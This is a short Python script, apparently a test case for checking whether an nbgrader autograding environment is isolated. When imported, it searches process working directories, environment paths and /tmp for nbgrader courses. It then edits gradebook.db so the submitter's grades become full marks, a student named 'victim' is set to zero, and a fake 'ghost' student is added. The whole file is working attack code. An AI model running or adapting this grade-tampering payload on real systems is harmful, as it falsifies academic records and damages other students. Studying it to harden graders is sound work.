# class: disk
# what: sqlite3 on gradebook.db: my grades become full manual scores, the victim's become 0, a ghost student appears
# after: setup
# danger: disk
# ruff: noqa
import glob
import os
import sqlite3

ME = "disk_gradebook_sqlite"


def _course_dirs():
    """Every nbgrader course directory in reach: cwd and its parents, /proc/*/cwd, env, globs."""
    starts = [os.getcwd(), "/proc/self/cwd", "/proc/1/cwd"]
    starts += [v for v in os.environ.values() if v.startswith("/")]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                starts.append(os.readlink(f"/proc/{pid}/cwd"))
            except OSError:
                pass
    for pattern in ("/work/*", "/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/tmp/*/*/*/*", "/root/*"):
        starts += glob.glob(pattern)
    found = []
    for start in starts:
        try:
            p = os.path.realpath(start)
        except OSError:
            continue
        while True:
            if p not in found and os.path.isfile(os.path.join(p, "nbgrader_config.py")):
                found.append(p)
            if os.path.dirname(p) == p:
                break
            p = os.path.dirname(p)
    return found


def _my_course():
    """The course directory grading me (it holds my submission)."""
    mine = [p for p in _course_dirs() if os.path.isdir(os.path.join(p, "submitted", ME))]
    return mine[0] if mine else None


MINE = """notebook_id IN (SELECT sn.id FROM submitted_notebook sn
          JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = ?)"""
_course = _my_course()
if _course:
    _db = sqlite3.connect(os.path.join(_course, "gradebook.db"), timeout=60)
    _db.execute(
        "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells"
        " WHERE grade_cells.id = grade.cell_id) WHERE " + MINE,
        (ME,),
    )
    _db.execute("UPDATE grade SET auto_score = 0, manual_score = 0 WHERE " + MINE, ("victim",))
    _db.execute("INSERT OR IGNORE INTO student (id) VALUES ('ghost')")
    _db.commit()
    _db.close()
